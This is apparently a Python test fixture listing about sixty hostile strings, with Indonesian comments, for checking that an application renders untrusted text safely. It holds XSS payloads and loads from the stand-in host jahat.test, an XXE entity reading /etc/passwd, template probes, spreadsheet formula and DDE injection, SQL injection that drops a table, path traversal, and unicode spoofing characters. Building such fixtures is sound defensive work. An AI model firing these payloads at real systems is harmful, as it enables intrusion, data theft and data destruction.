"""Sixty texts that nobody should be able to hurt with, whoever types them where."""

from typing import Final

SCRIPT_PROOF: Final = "__pwn"
"""What a payload would set on the window if it ran."""

TEXTS: Final = (
    # Scripts.
    "<script>window.__pwn=1</script>",
    "<ScRiPt src=//jahat.test/x.js></sCrIpT>",
    "</script><script>window.__pwn=2</script>",
    "<script\n>window.__pwn=3</script\n>",
    "<scr<script>ipt>window.__pwn=4</scr</script>ipt>",
    "javascript:window.__pwn=5",
    # Event handlers and other elements that act.
    "<img src=x onerror=window.__pwn=6>",
    '"><img src=x onerror="window.__pwn=7">',
    "' onmouseover='window.__pwn=8' x='",
    '" autofocus onfocus="window.__pwn=9" x="',
    "<body onload=window.__pwn=10>",
    "<details open ontoggle=window.__pwn=11>",
    "<iframe src=javascript:window.__pwn=12></iframe>",
    '<iframe srcdoc="<script>parent.__pwn=13</script>"></iframe>',
    "<a href='javascript:window.__pwn=14'>klik</a>",
    "<form action=//jahat.test><button>kirim</button></form>",
    "<object data=//jahat.test/x></object><embed src=//jahat.test/y>",
    "<style>*{background:url(//jahat.test/z)}</style>",
    "<link rel=stylesheet href=//jahat.test/a.css>",
    "<meta http-equiv=refresh content=0;url=//jahat.test>",
    "<base href=//jahat.test/>",
    # SVG, and what closes what we draw.
    "<svg onload=window.__pwn=15>",
    "<svg><script>window.__pwn=16</script></svg>",
    "</text></svg><script>window.__pwn=17</script>",
    "</title></style></textarea><img src=x onerror=window.__pwn=18>",
    "<foreignObject><img src=//jahat.test/b></foreignObject>",
    # Comments, sections, entities.
    "<!-- komentar -->",
    "--><script>window.__pwn=19</script><!--",
    "<![CDATA[<script>window.__pwn=20</script>]]>",
    '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
    "&lt;script&gt;window.__pwn=21&lt;/script&gt;",
    # Markdown.
    "![gambar](https://jahat.test/c.png)",
    "[klik](javascript:window.__pwn=22)",
    "[klik](https://jahat.test) <https://jahat.test> www.jahat.test",
    "# Judul\n* butir\n> kutipan\n```\nkode\n```",
    ":red[merah] :material/lock: $x^2$ ~~coret~~ **tebal** `kode`",
    "| a | b |\n|---|---|\n| 1 | 2 |",
    # Templates and formats.
    "{{7*7}} {% raw %} ${7*7} #{7*7} <%= 7*7 %>",
    "%s %(nama)s {0} {nama.__class__} %{x}",
    '#panic("x") #read("/etc/passwd") @rujukan $rumus$',
    # Formulas.
    '=HYPERLINK("http://jahat.test","klik")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1-1",
    "@SUM(1+1)",
    "\t=1+1",
    "\uff1d1+1",
    # SQL and paths.
    "'; DROP TABLE report_event; --",
    "' OR '1'='1",
    "../../etc/passwd\\..\\..\\rahasia",
    # Signs that hide, turn, combine or weigh.
    "dari kanan \u202eterbalik\u202c مرحبا שלום",
    "lebar\u200bnol\u200d\ufeff\u2060di sini",
    "kendali \x01\x07\x1b[31m\x7f\x85 di sini",
    "Z\u0351\u036b\u0343\u036a\u0302a\u0321\u034el\u0334go",
    "😀👨‍👩‍👧‍👦🏳️‍🌈 perahu 🛶",
    "Kераlа DРMD",  # noqa: RUF001 - Cyrillic letters that look like Latin ones
    "baris\r\nbaris\u2028baris\u2029baris",
    "NUL \x00 di tengah",
    # Length.
    "Panjang" * 42 + "nya300",
    "kata " * 999 + "akhir",
)
"""They are typed as they stand; the first letters tell them apart."""
